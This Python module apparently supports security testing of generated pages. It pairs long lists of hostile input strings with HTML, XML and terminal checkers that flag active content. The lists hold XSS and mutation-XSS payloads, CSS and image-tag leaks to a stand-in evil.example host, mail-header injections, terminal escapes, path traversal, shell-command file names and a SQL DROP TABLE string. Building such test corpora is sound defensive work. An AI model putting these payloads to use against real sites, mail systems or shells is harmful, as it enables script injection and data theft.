"""Hold hostile strings, and find what of them is active in a page, document or terminal."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from functools import lru_cache
from xml.etree.ElementTree import Element

import html5lib
from lxml import etree

VECTORS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:text/javascript,alert(1) />",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "{{ 7 * 7 }}{% include 'site.css' %}",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "x\r\nBcc: victim@example.org\r\n\r\nbody",
    "x\u2028<script>alert(1)</script>",
    "\u202eevil\u202c <b onload=alert(1)>",
    # mutation XSS: what one parser writes another reads differently
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><template><script>alert(1)</script></template></select>",
    "<a title='--!><img src=x onerror=alert(1)>'><!--",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    # other namespaces and their ways to point
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x' /></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    # tags written oddly
    "<ScRiPt/x>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x\x0bonerror\x0c=\ralert(1)>",
    "<img src=x onerror=alert(1)",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<applet code=evil.class archive=https://evil.example/x.jar></applet>",
    "<p is=x-y slot=z onanimationstart=alert(1) style='animation:x'>x</p>",
    # style and what it loads
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
    "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/?leak)}</style>",
    "</style>{}*{xss:expression(alert(1))}<style>",
    # addresses
    "vbscript:msgbox(1)",
    "&#x6A;&#97;vascript&#x3A;alert(1)",
    "\x01javascript:alert(1)",
    "  javascript\n:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/0f3e",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://node.example@evil.example/",
    "https://[::1%25'><script>alert(1)</script>]/",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x' src=x>",
    "<video poster=javascript:alert(1)></video><blockquote cite=javascript:alert(1)>x</blockquote>",
    # unclosed markup
    "<img src='https://evil.example/?leak=",
    "<textarea><form action=https://evil.example/><button>x",
    "<plaintext>",
    "<!--",
    "<a href=https://evil.example/><table><b",
    # templates
    "${7*7}#{7*7}[%= 7*7 %]{{constructor.constructor('alert(1)')()}}",
    "{# {%- raw -%} #}{{ site.contact }}{% for x in config %}",
    "%(title)s %s {0.__class__} {title} $(id) `id`",
    # characters
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>\udfff",
    "\ufffe\uffff\ufdd0\U0001fffe<b>x</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "ʺ＞＜img src=x onerror=alert(1)＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "x\u2029y\x85z\x0b\x1c\x1d\x1e",
    "\u2066\u202d\u202epwned\u2069 \u200f\u061c\u200b\u2060\ufeff",
    "раураl.example ⁄ ｅｖｉｌ",
    "Z̸̡͚̺a̶̛͎l̷̰̈g̸̗͝o" + "\u0301" * 300,
    # terminals, logs and mail
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred\x9d0;pwned\x9c\x90q\x9c",
    "\r\x1b[Knothing happened\b\b\b\x7f",
    '"}\n{"level":"error","message":"forged"}',
    "%0d%0aBcc:%20victim@example.org",
    "x\nBcc: victim@example.org\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "=?utf-8?q?=0D=0ABcc:_victim=40example.org?=",
    ".\r\nQUIT\r\n",
    "\n.\nMAIL FROM:<x@evil.example>",
    "From nobody Mon Oct  5 06:30:00 2026",
    "-- \n--=_boundary--\n",
    # names of files
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\con.txt",
    "/etc/cron.d/evil",
    "CON",
    "NUL.txt",
    "aux\x00.html",
    ".htaccess",
    "~root",
    "-rf *",
    "|id;$(id)&&`id`",
    # large ones
    "A" * 5_000,
    "<b>" * 200 + "deep",
    "'\"<>&" * 400,
    "&amp;" * 300,
    "&lt;script&gt;" * 50,
)

POISON = (
    "https://例え.jp：8080/a",
    "https://例え。jp／a？b＃c",
    "https://node.example＠else.example/",
    "http://ex℀mple.org/x",
    "http://[x",
    "http://bracket]/",
    "//[://http://[x",
    "http://[::1]:80:90/",
    "http://[fe80::1%25eth0]/x",
    "http://[v1.x]/",
    "http://[::ffff:1.2.3.4.5]/",
    "https://node.example:99999/x",
    "https://node.example:8o80/x",
    "https://node.example:-1/x",
    "https://node.example:８０/x",
    "https://node.example:" + "9" * 5_000 + "/x",
    "https://node.example/" + "9" * 5_000,
    "https://zenodo.org/records/" + "9" * 3_900,
    "https://zenodo.org/records/٣٤٥٦٧",
    "https://doi.org/10.1234/%00%0a%1b[31m%ff",
    "https://doi.org/10.5281/zenodo." + "9" * 3_900,
    "https://f1000research.com/articles/" + "9" * 1_000 + "-" + "9" * 1_000,
    "https://youtu.be/%00",
    "https://www.www.www./",
    "https://./dot",
    "https://" + "a" * 300 + ".example/",
    "https://" + "a." * 2_000 + "/",
    "https://xn--a.example/xn--",
    "https://xn--" + "z" * 60 + ".example/",
    "https://\u200d.example/",
    "https://ß.ẞ.ς.example/",
    "https://node.example/\ud800",
    "https://node.example/%ud800%",
    "https://node.example\x00/",
    "https://node.exa\tmple/a\nb\r\nc",
    "https:\\\\node.example\\a",
    "https:node.example",
    "https:///node.example//x",
    "https://?#",
    "https://node.example/?" + "&" * 3_000,
    "https://node.example/" + "a/../" * 1_000,
    "https://node.example/#" + "#" * 1_000,
    "https://a:b:c@d@node.example/",
    "HTTPS://NODE.EXAMPLE.:443/./a//b/?#",
    "１２３４ €, ²³ ½ Ⅷ ㊿ 1.2.3.4,5 10.10.2026 31.02.2026 99.99.9999",
    "9" * 5_000 + " euro",
    "1" + ",000" * 1_500 + " million euro",
    "0.000000001 billion $ 1e999 -0 ∞ NaN",
    "١٢ مارس ٢٠٢٦, १२.०३.२०२६, 𝟏𝟐. März 𝟐𝟎𝟐𝟔",
    "March 99999999999 2026, 2026-99-99, 0000-00-00, 32nd of Foo",
    "CVE-2026-" + "9" * 5_000 + " Ref. 1/2/3-4.5.6 v1.2.3.4.5-rc.6",
    "Part " + "x" * 3_000 + " XXVIII IIII",
    "&#xD800; &#99999999999999999999; &#x" + "F" * 5_000 + "; &" + "x" * 5_000 + ";",
    "(((((((((((((((((((((((((((((((((((((((((((((((((([a-z]*)+)+$ \\1 (?P<x>) {1,99999999}",
    '\'"; DROP TABLE items; -- * NEAR(a b) title:x ^ AND OR NOT ""',
    "{{ x }} {% raw %} %s %(x)s {0} {} $x",
    "ﷺ" * 200,
    "\u0301" * 500,
    "İıſß" * 50,
    "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f\u200b\u2060\ufeff",
    "\x00",
    "\ud800\udfff",
)
"""Texts that make functions of Python raise, or might: URLs, numbers, dates, escapes."""

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

_HTML = "{http://www.w3.org/1999/xhtml}"
_SVG = "{http://www.w3.org/2000/svg}"
_FORBIDDEN = frozenset(
    "script iframe object embed form input button textarea select base frame frameset applet template noscript"
    " marquee isindex plaintext xmp audio video source track portal dialog".split()
)
_ADDRESSES = frozenset(
    "href src srcset action formaction data poster background cite longdesc ping manifest classid codebase"
    " archive lowsrc dynsrc profile usemap icon".split()
)
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_LOADS = re.compile(r"url\s*\(|@import|expression|javascript|behavior|-moz-binding", re.IGNORECASE)
_STYLE = re.compile(r"(?:\./|(?:\.\./)*)style-[0-9a-f]{12}\.css")
"""The stylesheet of the site itself."""
_METAS = frozenset({"", "content-security-policy"})


def faults(page: str) -> list[str]:
    """List what in an HTML text could run, load or mislead; empty for a harmless page.

    The parsing algorithm of HTML builds the tree that is checked, as in a browser.
    """
    return [
        f"<{str(element.tag).removeprefix(_HTML)}> {fault}"
        for element in parsed(page).iter()
        if isinstance(element.tag, str)
        for fault in _faults(element)
    ]


@lru_cache(maxsize=1)  # `shape` follows `faults` on the same page
def parsed(page: str) -> Element:
    """Parse HTML as a browser does; every element has a namespace."""
    tree: Element = html5lib.parse(page)
    return tree


def _faults(element: Element) -> Iterator[str]:
    space, _, name = element.tag.rpartition("}")
    if space + "}" != _HTML and not _is_chart(element):
        yield "of another namespace"
    if name.lower() in _FORBIDDEN and not _is_data(element):
        yield "may not be"
    if name == "meta" and str(element.get("http-equiv", "")).lower() not in _METAS:
        yield "orders the browser"
    if name == "link" and not _is_own_link(element):
        yield "loads"
    if name == "style" and _LOADS.search("".join(element.itertext())):
        yield "loads"
    for written, value in element.attrib.items():
        attribute = str(written).rpartition("}")[2].rpartition(":")[2].lower()
        if attribute.startswith("on") or attribute == "srcdoc":
            yield f"runs {attribute}"
        if attribute == "style" and _LOADS.search(value):
            yield f"loads by style={value[:60]!r}"
        if attribute in _ADDRESSES and not _harmless_address(value):
            yield f"{attribute}={value[:60]!r}"


def _is_chart(element: Element) -> bool:
    """Return whether an element is of a chart, which has only the attributes of its drawing."""
    drawn = {"viewBox", "preserveAspectRatio", "class", "role", "aria-label", "aria-hidden", "d"}
    return element.tag in (f"{_SVG}svg", f"{_SVG}path") and {*map(str, element.attrib)} <= drawn


def _is_data(element: Element) -> bool:
    """Return whether a script element contains JSON for machines, which no browser runs."""
    if element.tag != f"{_HTML}script" or element.attrib != {"type": "application/ld+json"}:
        return False
    text = "".join(element.itertext())
    return isinstance(json.loads(text), dict) and "<" not in text


def _is_own_link(element: Element) -> bool:
    """Return whether a link element loads nothing, or a file beside the page."""
    rel, href = element.get("rel"), str(element.get("href"))
    if rel in ("alternate", "canonical"):
        return True
    own = ("stylesheet", "icon", "apple-touch-icon", "manifest", "search")
    return rel in own and not _SCHEME.match(href) and not href.startswith(("//", "\\\\"))


def _harmless_address(value: str) -> bool:
    # A browser drops blanks and controls in front, tabs and line ends anywhere (URL Standard, 4.4).
    bare = re.sub(r"[\t\r\n]", "", value).lstrip("".join(map(chr, range(0x21))))
    scheme = _SCHEME.match(bare)
    return scheme is None or scheme[1].lower() in ("http", "https", "mailto", "webcal")


Shape = list[tuple[str, tuple[str, ...]]]
"""Tags with the names of their attributes, in the order of the document."""


def shape(page: str) -> Shape:
    """List elements and names of attributes in document order, which no text may change."""
    return [(str(e.tag), tuple(sorted(map(str, e.attrib)))) for e in parsed(page).iter()]


_NO_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def xml_faults(document: bytes) -> list[str]:
    """List problems of an XML document: not well-formed, or characters outside XML 1.0."""
    try:
        root = etree.fromstring(document)
    except etree.XMLSyntaxError as error:
        return [str(error)]
    found = []
    for element in root.iter():
        for text in (element.text, element.tail, *map(str, element.attrib.values())):
            if bad := _NO_XML.findall(text or ""):
                found.append(f"{element.tag} has {bad[:5]!r}")
    return found


def terminal_faults(said: str) -> list[str]:
    """List characters that control a terminal or reorder its text; line ends are allowed."""
    return sorted(
        {
            f"{char!r} in {line[:120]!r}"
            for line in said.split("\n")
            for char in line
            if (ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 or char in BIDI)
        }
    )
